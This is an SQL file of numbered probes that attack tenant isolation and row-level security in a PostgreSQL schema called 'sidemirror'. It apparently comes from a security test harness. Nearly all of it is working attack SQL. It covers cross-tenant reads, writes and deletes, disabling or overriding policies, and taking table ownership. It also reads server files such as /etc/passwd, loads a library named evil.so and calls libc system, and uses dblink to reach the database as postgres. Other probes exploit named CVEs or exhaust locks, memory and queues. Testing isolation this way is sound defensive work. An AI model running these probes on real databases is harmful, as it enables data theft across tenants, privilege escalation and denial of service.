DO $$ DECLARE x text; c text; BEGIN FOR c IN SELECT conname FROM pg_constraint WHERE conrelid='sidemirror.memories'::regclass AND contype IN ('p','u') LOOP BEGIN EXECUTE format('INSERT INTO sidemirror.memories AS t OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(s, jsonb_build_object(''tenant_id'', %L))).* FROM sidemirror.memories s LIMIT 1 ON CONFLICT ON CONSTRAINT %I DO UPDATE SET tenant_id = EXCLUDED.tenant_id RETURNING t::text', '{foreign}', c) INTO x; RAISE NOTICE '% -> %', c, x; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', c, SQLERRM; END; END LOOP; END $$;

-- attempt: p129: MERGE: update of rows that only the target scan sees (CVE-2023-39418)
MERGE INTO sidemirror.memories t USING (SELECT 1 AS one) s ON (t.tenant_id::text = '{foreign}') WHEN MATCHED THEN UPDATE SET tenant_id = '{own}';
SELECT count(*) FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}';

-- attempt: p130: MERGE: delete of rows of B
MERGE INTO sidemirror.memories t USING (VALUES ('{foreign}')) s(id) ON (t.tenant_id::text = s.id) WHEN MATCHED THEN DELETE;

-- attempt: p131: MERGE: insert under B's id
MERGE INTO sidemirror.memories t USING (SELECT * FROM sidemirror.memories LIMIT 1) s ON (false) WHEN NOT MATCHED THEN INSERT (tenant_id, project_id) VALUES ('{foreign}', s.project_id);

-- attempt: p132: INSERT with B's tenant id
INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id', '{foreign}'))).* FROM sidemirror.memories t LIMIT 1;
INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id', '{foreign}'))).* FROM sidemirror.memories t LIMIT 1 RETURNING tenant_id;
INSERT INTO sidemirror.memories (tenant_id, project_id) SELECT '{foreign}', project_id FROM sidemirror.memories LIMIT 1;

-- attempt: p133: INSERT … RETURNING under B's id
INSERT INTO sidemirror.memories (tenant_id, project_id) SELECT '{foreign}', project_id FROM sidemirror.memories LIMIT 1 RETURNING *;
INSERT INTO sidemirror.job_envelopes OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.job_envelopes'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id','{foreign}'))).* FROM sidemirror.job_envelopes t LIMIT 1 RETURNING *;

-- attempt: p134: UPDATE that takes B's rows
UPDATE sidemirror.memories SET tenant_id = '{own}' WHERE tenant_id::text = '{foreign}' RETURNING tenant_id, project_id;

-- attempt: p135: UPDATE that pushes an own row to B (WITH CHECK missing)
UPDATE sidemirror.memories SET tenant_id = '{foreign}' WHERE ctid = (SELECT ctid FROM sidemirror.memories WHERE tenant_id::text = '{own}' LIMIT 1);

-- attempt: p136: UPDATE with no column read, so that no SELECT policy applies
BEGIN;
UPDATE sidemirror.memories SET tenant_id = '{own}';
ROLLBACK;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p137: DELETE of B's rows
DELETE FROM sidemirror.memories WHERE tenant_id::text = '{foreign}' RETURNING *;
DELETE FROM sidemirror.job_envelopes e WHERE e::text LIKE '%{foreign}%';

-- attempt: p138: DELETE without WHERE, counted and rolled back
BEGIN;
SELECT count(*) AS mine FROM sidemirror.memories;
DELETE FROM sidemirror.memories;
ROLLBACK;

-- attempt: p139: DELETE … USING and UPDATE … FROM self joins with RETURNING of the joined row
BEGIN;
UPDATE sidemirror.memories t SET project_id = t.project_id FROM sidemirror.memories o WHERE o.tenant_id::text = '{foreign}' RETURNING o::text;
DELETE FROM sidemirror.memories t USING sidemirror.memories o WHERE o.tenant_id::text = '{foreign}' RETURNING o::text;
ROLLBACK;

-- attempt: p140: data-modifying CTE mixed with a read
WITH u AS (UPDATE sidemirror.memories SET project_id = project_id RETURNING *) SELECT q::text FROM u q WHERE q.tenant_id::text <> '{own}';
WITH x AS MATERIALIZED (SELECT * FROM sidemirror.memories) SELECT x::text FROM x WHERE x.tenant_id::text='{foreign}';

-- attempt: p141: TRUNCATE, which row security does not stop
BEGIN;
TRUNCATE sidemirror.memories CASCADE;
ROLLBACK;
SELECT has_table_privilege('sidemirror.memories','truncate');

-- attempt: p142: ALTER TABLE: disable row security
ALTER TABLE sidemirror.memories DISABLE ROW LEVEL SECURITY;
ALTER TABLE sidemirror.memories NO FORCE ROW LEVEL SECURITY;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p143: ALTER TABLE OWNER to self
ALTER TABLE sidemirror.memories OWNER TO CURRENT_USER;
ALTER SCHEMA sidemirror OWNER TO CURRENT_USER;

-- attempt: p144: ALTER TABLE: column default that stamps B's id
ALTER TABLE sidemirror.memories ALTER COLUMN tenant_id SET DEFAULT '{foreign}';
ALTER TABLE sidemirror.memories ADD COLUMN stolen text;
ALTER TABLE sidemirror.memories RENAME TO taken;

-- attempt: p145: CREATE POLICY that lets all through
CREATE POLICY open_all ON sidemirror.memories USING (true) WITH CHECK (true);
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p146: ALTER POLICY and DROP POLICY by name
DO $$ DECLARE p record; BEGIN FOR p IN SELECT polname, polrelid::regclass r FROM pg_policy LOOP BEGIN EXECUTE format('ALTER POLICY %I ON %s TO PUBLIC', p.polname, p.r); RAISE NOTICE 'altered %', p.polname; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p147: DROP TABLE, DROP SCHEMA, rolled back
BEGIN;
DROP TABLE sidemirror.memories CASCADE;
ROLLBACK;
BEGIN;
DROP SCHEMA sidemirror CASCADE;
ROLLBACK;

-- attempt: p148: DROP OWNED BY and REASSIGN OWNED of B
BEGIN;
DROP OWNED BY {foreign_role};
ROLLBACK;
REASSIGN OWNED BY {foreign_role} TO CURRENT_USER;
REASSIGN OWNED BY owner TO CURRENT_USER;

-- attempt: p149: inheritance: own child of the table
DO $$ DECLARE cols text; BEGIN SELECT string_agg(format('%I %s', attname, format_type(atttypid, atttypmod)), ',' ORDER BY attnum) INTO cols FROM pg_attribute WHERE attrelid='sidemirror.memories'::regclass AND attnum>0 AND NOT attisdropped; EXECUTE 'CREATE TEMP TABLE kid ('||cols||')'; END $$;
ALTER TABLE kid INHERIT sidemirror.memories;
CREATE TEMP TABLE kid2 () INHERITS (sidemirror.memories);
INSERT INTO kid (tenant_id) VALUES ('{foreign}');

-- attempt: p150: partition: attach the table to an own partitioned table (CVE-2021-3393)
CREATE TEMP TABLE pp (LIKE sidemirror.memories) PARTITION BY LIST (tenant_id);
ALTER TABLE pp ATTACH PARTITION sidemirror.memories DEFAULT;
SELECT q::text FROM pp q WHERE q.tenant_id::text='{foreign}';

-- attempt: p151: TABLESAMPLE before the policy
SELECT t::text FROM sidemirror.memories t TABLESAMPLE SYSTEM (100) WHERE t.tenant_id::text='{foreign}';
SELECT t::text FROM sidemirror.memories t TABLESAMPLE BERNOULLI (100) REPEATABLE (1) WHERE t.tenant_id::text <> '{own}';

-- attempt: p152: TABLESAMPLE under EXPLAIN ANALYZE, for a count
EXPLAIN (ANALYZE, COSTS OFF) SELECT * FROM sidemirror.memories TABLESAMPLE SYSTEM (100);
CREATE FUNCTION pg_temp.pct() RETURNS real LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'as %', current_user; RETURN 100; END $$;
SELECT count(*) FROM sidemirror.job_envelopes TABLESAMPLE BERNOULLI (pg_temp.pct());

-- attempt: p153: sequences: last_value and nextval as a count of all tenants
SELECT schemaname, sequencename, last_value FROM pg_sequences;
SELECT c.oid::regclass, pg_sequence_last_value(c.oid) FROM pg_class c WHERE relkind='S';
DO $$ DECLARE s record; v bigint; BEGIN FOR s IN SELECT oid::regclass n FROM pg_class WHERE relkind='S' LOOP BEGIN v := nextval(s.n); RAISE NOTICE '% nextval %', s.n, v; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;

-- attempt: p154: sequences: direct read and currval/lastval
DO $$ DECLARE s record; x text; BEGIN FOR s IN SELECT oid::regclass n FROM pg_class WHERE relkind='S' LOOP BEGIN EXECUTE format('SELECT last_value::text FROM %s', s.n) INTO x; RAISE NOTICE '% %', s.n, x; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;
SELECT lastval();
SELECT currval(pg_get_serial_sequence('sidemirror.memories','id'));

-- attempt: p155: sequences: setval to break B's inserts
DO $$ DECLARE s record; v bigint; BEGIN FOR s IN SELECT oid::regclass n FROM pg_class WHERE relkind='S' LOOP BEGIN v := nextval(s.n); PERFORM setval(s.n, v, false); RAISE NOTICE '% can be set', s.n; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;
DO $$ DECLARE s record; BEGIN FOR s IN SELECT oid::regclass n FROM pg_class WHERE relkind='S' LOOP BEGIN EXECUTE format('ALTER SEQUENCE %s RESTART', s.n); EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;

-- attempt: p156: large objects: list and read those of others
SELECT oid, lomowner::regrole, lomacl FROM pg_largeobject_metadata;
SELECT oid, encode(lo_get(oid),'escape') FROM pg_largeobject_metadata WHERE lomowner::regrole::text <> current_user LIMIT 5;
SELECT loid, pageno, encode(data,'escape') FROM pg_largeobject LIMIT 5;

-- attempt: p157: large objects: overwrite or unlink those of others
DO $$ DECLARE o oid; BEGIN FOR o IN SELECT oid FROM pg_largeobject_metadata WHERE lomowner <> (SELECT oid FROM pg_roles WHERE rolname=current_user) LOOP BEGIN PERFORM lo_put(o, 0, 'x'); RAISE NOTICE 'wrote %', o; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;

-- attempt: p158: large objects: lo_import and lo_export of server files
SELECT lo_import('/etc/passwd');
SELECT lo_export(lo_from_bytea(0,'x'), '/tmp/lo_out');
SELECT lo_import('pg_hba.conf');

-- attempt: p159: LISTEN on guessed channels, waiting for B's messages
LISTEN sidemirror;
LISTEN events;
LISTEN changes;
LISTEN tenant;
LISTEN "tenant_{foreign}";
LISTEN "{foreign}";
LISTEN jobs;
SELECT pg_sleep(0.2);
SELECT pg_listening_channels();

-- attempt: p160: LISTEN on channels mined from function sources
DO $$ DECLARE m text; BEGIN FOR m IN SELECT DISTINCT x[1] FROM pg_proc p, regexp_matches(p.prosrc, '(?:pg_notify\(\s*''|notify\s+)([a-z_0-9]+)', 'gi') x WHERE p.pronamespace <> 'pg_catalog'::regnamespace LOOP EXECUTE format('LISTEN %I', m); RAISE NOTICE 'listening on %', m; END LOOP; END $$;
SELECT pg_sleep(0.2);
SELECT 1;

-- attempt: p161: NOTIFY forged in B's name
SELECT pg_notify(c, json_build_object('tenant_id','{foreign}','op','delete','table','sidemirror.memories')::text) FROM unnest(ARRAY['sidemirror','events','changes','jobs','tenant_{foreign}','{foreign}','cache_invalidate']) c;

-- attempt: p162: NOTIFY queue filled while an own listener does not read
LISTEN hog;
BEGIN;
SELECT pg_notify('hog', repeat('x', 7900)||g) FROM generate_series(1,2000) g;
COMMIT;
BEGIN;
SELECT pg_notification_queue_usage();
SELECT pg_sleep(0.2);
ROLLBACK;
UNLISTEN *;

-- attempt: p163: advisory locks: keys a migration or a worker might use
SELECT pg_advisory_lock(hashtext(k)), pg_advisory_lock(hashtextextended(k,0)) FROM unnest(ARRAY['sidemirror','migrate','migrations','{foreign}','tenant:{foreign}','sidemirror.memories','worker','scheduler','leader']) k;
SELECT pg_advisory_lock(k) FROM unnest(ARRAY[0,1,42,1234,72707369]) k;
SELECT pg_sleep(0.2);
SELECT pg_advisory_unlock_all();

-- attempt: p164: advisory locks: fill the shared lock table
SELECT count(pg_advisory_lock(g)) FROM generate_series(1,200000) g;
SELECT count(*) FROM pg_locks;
SELECT pg_sleep(0.2);
SELECT pg_advisory_unlock_all();
BEGIN;
SELECT count(pg_advisory_xact_lock(g)) FROM generate_series(1,200000) g;
ROLLBACK;

-- attempt: p165: advisory locks: read those held by others, then take the same
SELECT pid, classid, objid, objsubid FROM pg_locks WHERE locktype='advisory' AND pid<>pg_backend_pid();
SELECT CASE objsubid WHEN 1 THEN pg_try_advisory_lock((classid::bigint<<32)|objid::bigint) ELSE pg_try_advisory_lock(classid::bigint::int, objid::bigint::int) END FROM pg_locks WHERE locktype='advisory' AND pid<>pg_backend_pid();
SELECT pg_sleep(0.2);
SELECT pg_advisory_unlock_all();

-- attempt: p166: LOCK TABLE IN ACCESS EXCLUSIVE MODE, held
SET lock_timeout='5s';
BEGIN;
LOCK TABLE sidemirror.memories IN ACCESS EXCLUSIVE MODE;
SELECT mode, granted FROM pg_locks WHERE pid=pg_backend_pid() AND relation='sidemirror.memories'::regclass;
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p167: LOCK TABLE IN SHARE ROW EXCLUSIVE MODE, held
SET lock_timeout='5s';
BEGIN;
LOCK TABLE sidemirror.memories IN SHARE ROW EXCLUSIVE MODE;
SELECT mode, granted FROM pg_locks WHERE pid=pg_backend_pid() AND relation='sidemirror.memories'::regclass;
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p168: LOCK TABLE IN ACCESS SHARE MODE, held against migrations
SET lock_timeout='5s';
BEGIN;
LOCK TABLE sidemirror.memories IN ACCESS SHARE MODE;
SELECT mode, granted FROM pg_locks WHERE pid=pg_backend_pid() AND relation='sidemirror.memories'::regclass;
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p169: LOCK TABLE on catalogues
SET lock_timeout='5s';
BEGIN;
LOCK TABLE pg_catalog.pg_class IN ACCESS SHARE MODE;
LOCK TABLE pg_catalog.pg_authid IN ACCESS EXCLUSIVE MODE;
ROLLBACK;
BEGIN;
LOCK TABLE pg_catalog.pg_class IN EXCLUSIVE MODE;
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p170: FOR UPDATE on B's rows
BEGIN;
SELECT ctid FROM sidemirror.memories WHERE tenant_id::text='{foreign}' FOR UPDATE;
SELECT ctid FROM sidemirror.job_envelopes FOR UPDATE;
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p171: FOR UPDATE SKIP LOCKED and NOWAIT as an oracle of what B holds
BEGIN;
SELECT count(*) FROM (SELECT 1 FROM sidemirror.job_envelopes FOR KEY SHARE SKIP LOCKED) q;
SELECT count(*) FROM (SELECT 1 FROM sidemirror.memories FOR UPDATE NOWAIT) q;
ROLLBACK;
CREATE EXTENSION pgrowlocks;
SELECT * FROM pgrowlocks('sidemirror.memories');

-- attempt: p172: unique key held uncommitted, so that B's insert waits
BEGIN;
DO $$ DECLARE n int; BEGIN FOR g IN 1..3000 LOOP BEGIN INSERT INTO sidemirror.job_envelopes OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT jsonb_object_agg(a.attname, g) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.job_envelopes'::regclass AND i.indisprimary AND a.attname NOT IN ('tenant_id','project_id')))).* FROM sidemirror.job_envelopes t LIMIT 1; n := coalesce(n,0)+1; EXIT WHEN n >= 50; EXCEPTION WHEN OTHERS THEN IF g<3 THEN RAISE NOTICE '%', SQLERRM; END IF; END; END LOOP; RAISE NOTICE '% keys held ahead of others', n; END $$;
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p173: long transaction with an old snapshot, time limits off
SET statement_timeout=0;
SET idle_in_transaction_session_timeout=0;
SET lock_timeout=0;
BEGIN ISOLATION LEVEL REPEATABLE READ;
SELECT count(*) FROM sidemirror.memories;
SELECT pid, backend_xmin, current_setting('statement_timeout'), current_setting('idle_in_transaction_session_timeout') FROM pg_stat_activity WHERE pid=pg_backend_pid();
SELECT pg_sleep(0.2);
COMMIT;

-- attempt: p174: long transaction: PREPARE TRANSACTION that outlives the session
BEGIN;
UPDATE sidemirror.memories SET project_id = project_id;
PREPARE TRANSACTION 'leftover_a';
SELECT * FROM pg_prepared_xacts;
ROLLBACK PREPARED 'leftover_a';

-- attempt: p175: serializable conflicts forced on others
BEGIN ISOLATION LEVEL SERIALIZABLE;
SELECT count(*) FROM sidemirror.memories;
SELECT count(*) FROM sidemirror.job_envelopes;
UPDATE sidemirror.memories SET project_id = project_id WHERE ctid = (SELECT ctid FROM sidemirror.memories LIMIT 1);
SELECT mode, count(*) FROM pg_locks WHERE mode='SIReadLock' GROUP BY 1;
SELECT pg_sleep(0.2);
ROLLBACK;

-- attempt: p176: CPU and temp space: a wide cross join with limits lifted
SET statement_timeout=0;
SET temp_file_limit=-1;
SET work_mem='64kB';
SELECT count(*) FROM (SELECT md5(g::text) m FROM generate_series(1,1000000) g ORDER BY 1) q;
SHOW temp_file_limit;

-- attempt: p177: memory: work_mem raised, large strings and arrays
SET work_mem='2GB';
SET hash_mem_multiplier=100;
SELECT length(repeat('x', 200000000));
SELECT cardinality(array_agg(g)) FROM generate_series(1,5000000) g;
SHOW work_mem;

-- attempt: p178: prepared statement kept across a change of setting (CVE-2024-10976)
SET plan_cache_mode=force_generic_plan;
PREPARE pq AS SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text='{foreign}';
EXECUTE pq;
SET sidemirror.tenant_id='{foreign}';
SET ROLE {foreign_role};
EXECUTE pq;
RESET ROLE;

-- attempt: p179: prepared statement with the tenant as parameter and a custom plan
SET plan_cache_mode=force_custom_plan;
PREPARE pr(text) AS SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text=$1 OR true;
EXECUTE pr('{foreign}');
PREPARE pw(text) AS UPDATE sidemirror.memories SET project_id=project_id WHERE tenant_id::text=$1;
EXECUTE pw('{foreign}');

-- attempt: p180: cursor opened, setting changed, then fetched
BEGIN;
DECLARE c SCROLL CURSOR FOR SELECT t::text FROM sidemirror.memories t;
SELECT set_config('sidemirror.tenant_id','{foreign}',true), set_config('app.tenant_id','{foreign}',true);
FETCH ALL FROM c;
MOVE BACKWARD ALL IN c;
FETCH 50 FROM c;
COMMIT;

-- attempt: p181: cursor WITH HOLD and WHERE CURRENT OF
BEGIN;
DECLARE d CURSOR FOR SELECT * FROM sidemirror.memories WHERE tenant_id::text='{foreign}' FOR UPDATE;
FETCH 1 FROM d;
UPDATE sidemirror.memories SET tenant_id='{own}' WHERE CURRENT OF d;
COMMIT;

-- attempt: p182: DO block with dynamic SQL
DO $$ DECLARE r text; BEGIN FOR r IN EXECUTE 'SELECT t::text FROM sidemirror.memories t WHERE tenant_id::text = $1' USING '{foreign}' LOOP RAISE NOTICE '%', r; END LOOP; END $$;

-- attempt: p183: DO block in untrusted languages
CREATE EXTENSION plpython3u;
DO LANGUAGE plpython3u $$ import os; plpy.notice(os.getuid()) $$;
CREATE EXTENSION plperlu;
CREATE EXTENSION plperl;
DO LANGUAGE plperl $$ elog(NOTICE, $ENV.'') $$;

-- attempt: p184: plpgsql exceptions: values taken from GET STACKED DIAGNOSTICS
DO $$ DECLARE d text; h text; c text; BEGIN PERFORM 1 FROM sidemirror.memories t WHERE t.tenant_id::text='{foreign}' AND xmlparse(document '<'||t::text) IS NOT NULL; EXCEPTION WHEN OTHERS THEN GET STACKED DIAGNOSTICS d=PG_EXCEPTION_DETAIL, h=PG_EXCEPTION_HINT, c=PG_EXCEPTION_CONTEXT; RAISE NOTICE '% | % | % | %', SQLERRM, d, h, c; END $$;
DO $$ BEGIN PERFORM (t::text)::json FROM sidemirror.memories t WHERE t.tenant_id::text <> '{own}'; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END $$;

-- attempt: p185: plpgsql exceptions: role change kept after a subtransaction's abort
DO $$ BEGIN BEGIN EXECUTE 'SET LOCAL ROLE owner'; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; RAISE NOTICE 'now %', current_user; END $$;
SELECT current_user;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p186: pg_read_file, pg_read_binary_file and pg_stat_file
SELECT pg_read_file('pg_hba.conf');
SELECT pg_read_binary_file('global/pg_control');
SELECT pg_stat_file('postgresql.conf');
SELECT pg_read_file('/etc/passwd');
SELECT pg_read_file(pg_relation_filepath('sidemirror.memories'));

-- attempt: p187: pg_ls_dir and its relatives
SELECT pg_ls_dir('.');
SELECT * FROM pg_ls_logdir();
SELECT * FROM pg_ls_waldir();
SELECT * FROM pg_ls_tmpdir();
SELECT pg_current_logfile(), pg_relation_filepath('sidemirror.memories');
SELECT * FROM pg_hba_file_rules;

-- attempt: p188: dblink to the same server as operator or postgres
CREATE EXTENSION dblink;
SELECT * FROM dblink('dbname='||current_database()||' user=owner', 'SELECT tenant_id::text FROM sidemirror.memories') AS t(x text);
SELECT * FROM dblink('dbname='||current_database()||' user=postgres', 'SELECT current_user::text') AS t(x text);
SELECT dblink_connect_u('dbname='||current_database()||' user=postgres');

-- attempt: p189: postgres_fdw loopback with a user mapping for the operator
CREATE EXTENSION postgres_fdw;
CREATE SERVER loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'localhost', dbname 'postgres');
CREATE USER MAPPING FOR CURRENT_USER SERVER loop OPTIONS (user 'owner', password_required 'false');
IMPORT FOREIGN SCHEMA sidemirror FROM SERVER loop INTO public;
DROP SERVER IF EXISTS loop CASCADE;

-- attempt: p190: extensions that read pages: pageinspect, pg_visibility, pgstattuple, pg_buffercache
CREATE EXTENSION pageinspect;
SELECT encode(t_data,'escape') FROM heap_page_items(get_raw_page('sidemirror.memories',0)) LIMIT 5;
CREATE EXTENSION pg_visibility;
CREATE EXTENSION pgstattuple;
SELECT * FROM pgstattuple('sidemirror.memories');
CREATE EXTENSION pg_walinspect;

-- attempt: p191: tablefunc, xml and text search functions that run a query given as text
SELECT query_to_xml('SELECT * FROM sidemirror.memories', true, true, '');
SELECT table_to_xml('sidemirror.memories', true, true, '');
SELECT schema_to_xml('sidemirror', true, true, '');
SELECT * FROM ts_stat('SELECT to_tsvector(t::text) FROM sidemirror.memories t WHERE tenant_id::text = ''{foreign}''') LIMIT 50;

-- attempt: p192: LOAD of a library and a C function
LOAD 'auto_explain';
LOAD '/tmp/evil.so';
LOAD '$libdir/plugins/evil';
CREATE FUNCTION pg_temp.sys(cstring) RETURNS int LANGUAGE c STRICT AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';
SET dynamic_library_path='/tmp';
SET session_preload_libraries='auto_explain';

-- attempt: p193: event triggers
CREATE FUNCTION pg_temp.evt() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '% %', tg_tag, current_user; END $$;
CREATE EVENT TRIGGER et ON ddl_command_end EXECUTE FUNCTION pg_temp.evt();
SELECT evtname, evtowner::regrole, evtfoid::regprocedure FROM pg_event_trigger;
DROP EVENT TRIGGER IF EXISTS et;

-- attempt: p194: pg_export_snapshot and a borrowed snapshot
BEGIN ISOLATION LEVEL REPEATABLE READ;
SELECT pg_export_snapshot();
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
COMMIT;
BEGIN ISOLATION LEVEL REPEATABLE READ;
SET TRANSACTION SNAPSHOT '00000003-00000001-1';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
ROLLBACK;

-- attempt: p195: logical decoding: a slot and its changes
SELECT * FROM pg_create_logical_replication_slot('leak_slot','test_decoding');
SELECT * FROM pg_logical_slot_peek_changes('leak_slot',NULL,NULL);
SELECT slot_name, plugin, active, restart_lsn FROM pg_replication_slots;
SELECT pg_drop_replication_slot('leak_slot');

-- attempt: p196: logical decoding: others' slots advanced or read
SELECT pg_replication_slot_advance(slot_name, pg_current_wal_lsn()) FROM pg_replication_slots;
SELECT (pg_logical_slot_get_changes(slot_name,NULL,10)).* FROM pg_replication_slots WHERE slot_type='logical';
SELECT pg_create_physical_replication_slot('hold', true);
SELECT pg_drop_replication_slot('hold');

-- attempt: p197: publications, subscriptions and logical messages
CREATE PUBLICATION pub_leak FOR TABLE sidemirror.memories;
CREATE PUBLICATION pub_all FOR ALL TABLES;
CREATE SUBSCRIPTION sub_leak CONNECTION 'dbname=postgres' PUBLICATION pub_all WITH (connect=false);
SELECT pg_logical_emit_message(false,'x','y');
SELECT subname, subconninfo FROM pg_subscription;
DROP PUBLICATION IF EXISTS pub_leak, pub_all;

-- attempt: p198: operator class of one's own with a spying comparison
CREATE FUNCTION pg_temp.cmp(text,text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RAISE NOTICE '% %', $1, $2; RETURN bttextcmp($1,$2); END $$;
CREATE OPERATOR CLASS pg_temp.spy_ops FOR TYPE text USING btree AS OPERATOR 1 <, OPERATOR 3 =, FUNCTION 1 pg_temp.cmp(text,text);
CREATE INDEX spy_ix ON sidemirror.memories ((tenant_id::text) pg_temp.spy_ops);

-- attempt: p199: operator added to the family of the tenant's type
CREATE FUNCTION pg_temp.eqall(uuid,uuid) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT true $$;
CREATE OPERATOR pg_catalog.= (LEFTARG=uuid, RIGHTARG=text, FUNCTION=pg_temp.eqall);
ALTER OPERATOR FAMILY pg_catalog.uuid_ops USING btree ADD OPERATOR 3 = (uuid,uuid);
ALTER FUNCTION pg_catalog.uuid_eq(uuid,uuid) OWNER TO CURRENT_USER;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p200: cast of one's own between text and the tenant's type
CREATE FUNCTION pg_temp.tou(text) RETURNS uuid LANGUAGE sql AS $$ SELECT gen_random_uuid() $$;
CREATE CAST (text AS uuid) WITH FUNCTION pg_temp.tou(text) AS IMPLICIT;
CREATE CAST (text AS uuid) WITHOUT FUNCTION AS IMPLICIT;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p201: cast by an own composite type with an implicit spy
CREATE TYPE pg_temp.box1 AS (x text);
CREATE FUNCTION pg_temp.tobox(text) RETURNS pg_temp.box1 LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN RAISE NOTICE 'CAST %', $1; RETURN row($1)::pg_temp.box1; END $$;
CREATE CAST (text AS pg_temp.box1) WITH FUNCTION pg_temp.tobox(text) AS IMPLICIT;
SELECT count(*) FROM sidemirror.memories t WHERE (t::text)::pg_temp.box1 IS NOT NULL;

-- attempt: p202: collation: non-deterministic equality on the tenant id
CREATE COLLATION pg_temp.ci (provider=icu, locale='und-u-ks-level1', deterministic=false);
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text COLLATE pg_temp.ci = upper('{foreign}');
SET lc_collate='C';
SET sidemirror.tenant_id = ' {foreign} ';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p203: domain constraint as a spy in a cast
CREATE FUNCTION pg_temp.dspy(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN RAISE NOTICE 'DOMAIN %', $1; RETURN true; END $$;
CREATE DOMAIN pg_temp.dom AS text CHECK (pg_temp.dspy(VALUE));
SELECT count(*) FROM sidemirror.memories t WHERE (t::text)::pg_temp.dom IS NOT NULL;

-- attempt: p204: domain constraint that fails and shows the value
CREATE DOMAIN pg_temp.dno AS text CHECK (VALUE NOT LIKE '%{foreign}%');
SELECT (t::text)::pg_temp.dno FROM sidemirror.memories t;
ALTER DOMAIN pg_temp.dno ADD CONSTRAINT c2 CHECK (VALUE = 'x') NOT VALID;

-- attempt: p205: generated column on a temp table that reads the table
CREATE FUNCTION pg_temp.gen(int) RETURNS text LANGUAGE sql IMMUTABLE SECURITY DEFINER AS $$ SELECT string_agg(t::text, E'\n') FROM sidemirror.memories t WHERE t.tenant_id::text='{foreign}' $$;
CREATE TEMP TABLE gt (i int, g text GENERATED ALWAYS AS (pg_temp.gen(i)) STORED);
INSERT INTO gt(i) VALUES (1) RETURNING *;

-- attempt: p206: generated columns and defaults of the table that give the tenant id: overridden
